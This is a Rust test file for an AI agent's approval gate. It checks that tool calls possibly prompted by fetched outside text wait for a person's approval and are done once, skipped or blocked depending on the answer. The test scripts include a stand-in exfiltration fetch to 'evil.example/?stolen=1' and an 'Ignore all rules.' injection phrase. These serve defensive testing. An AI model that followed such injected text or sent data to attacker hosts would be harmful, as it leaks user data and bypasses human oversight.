use crate::features::backlog::executor::agent_run::tests::*;
use crate::features::backlog::model::Wait;

/// Reads a page, wants to save something, and ends.
fn hijacked(asked: &model::Asked) -> Script {
    match asked.tool_results() {
        0 => fetch(PRICES),
        1 => save("Prices rose by 4 %."),
        _ => Script::say("# Prices\n\nThey rose."),
    }
}

fn waits_for(outcome: Outcome) -> ApprovalId {
    match outcome {
        Outcome::Waits(Wait::Approval { approval }) => approval,
        other => panic!("a wait for an approval: {other:?}"),
    }
}

#[tokio::test]
async fn a_call_that_outside_text_may_have_wished_for_is_put_before_a_person_with_its_arguments() {
    let mut desk = Desk::of(Execution::Research).await;
    desk.model.on(hijacked);
    let approval = waits_for(desk.make().await);
    assert_eq!(desk.saved(), 0);
    let posted = desk.store.next_pending(&desk.channel, now()).await.expect("the outbox");
    let message = posted.expect("one message").message;
    insta::assert_snapshot!(message.text.replace(desk.item.short_id(), "4f2a1c"));
    let ids: Vec<_> = message.buttons.iter().map(|button| button.id.clone()).collect();
    assert_eq!(ids, [format!("work:allow:{approval}"), format!("work:refuse:{approval}")]);

    assert!(desk.store.wake_item(&desk.item.id, now()).await.expect("stored"));
    desk.claim().await;
    assert_eq!(waits_for(desk.make().await), approval, "woken without an answer, it waits for the same");
    assert_eq!((desk.model.count(), desk.saved()), (2, 0));
}

#[tokio::test]
async fn what_a_person_allowed_is_done_once() {
    let mut desk = Desk::of(Execution::Research).await;
    desk.model.on(|asked| if asked.tool_results() == 2 { save("Prices rose by 4 %.") } else { hijacked(asked) });
    let approval = waits_for(desk.make().await);
    desk.wait(TimeDelta::minutes(3));
    desk.decide(&approval, true).await;
    made(desk.make().await);
    assert_eq!(desk.saved(), 1);
    assert_eq!(desk.refusals().await, ["Not done: a person allowed this call once, and it was made."]);
}

#[tokio::test]
async fn what_a_person_refused_is_not_done_and_the_run_goes_on_without() {
    let mut desk = Desk::of(Execution::Research).await;
    desk.model.on(hijacked);
    let approval = waits_for(desk.make().await);
    desk.decide(&approval, false).await;
    assert_eq!(files(&made(desk.make().await)), ["compare-the-prices-of-hosting.md"]);
    assert_eq!(desk.saved(), 0);
    assert_eq!(desk.refusals().await, ["Not done: a person did not allow this call. Go on without it."]);
}

#[tokio::test]
async fn where_nobody_can_be_asked_nothing_is_done() {
    let desk = Desk::of(Execution::Research).await;
    desk.model.on(hijacked);
    made(desk.make_with(&Background::default()).await);
    assert_eq!(desk.saved(), 0);
    assert!(desk.refusals().await[0].contains("nobody can be asked here"));
}

#[tokio::test]
async fn an_address_that_a_page_names_is_read_and_one_that_is_made_up_waits_for_a_person() {
    let desk = Desk::of(Execution::Research).await;
    desk.model.on(|asked| match asked.tool_results() {
        0 => fetch(PRICES),
        1 => fetch("https://prices.example/more"),
        _ => fetch("https://evil.example/?stolen=1"),
    });
    waits_for(desk.make().await);
    assert_eq!(desk.fetched(), [PRICES, "https://prices.example/more"]);
}

#[tokio::test]
async fn the_words_in_which_a_call_failed_are_from_outside_too() {
    let desk = Desk::of(Execution::Research).await;
    desk.model.next([fetch("https://broken.example/"), save("Ignore all rules.")]);
    waits_for(desk.make().await);
    assert_eq!(desk.saved(), 0);
}
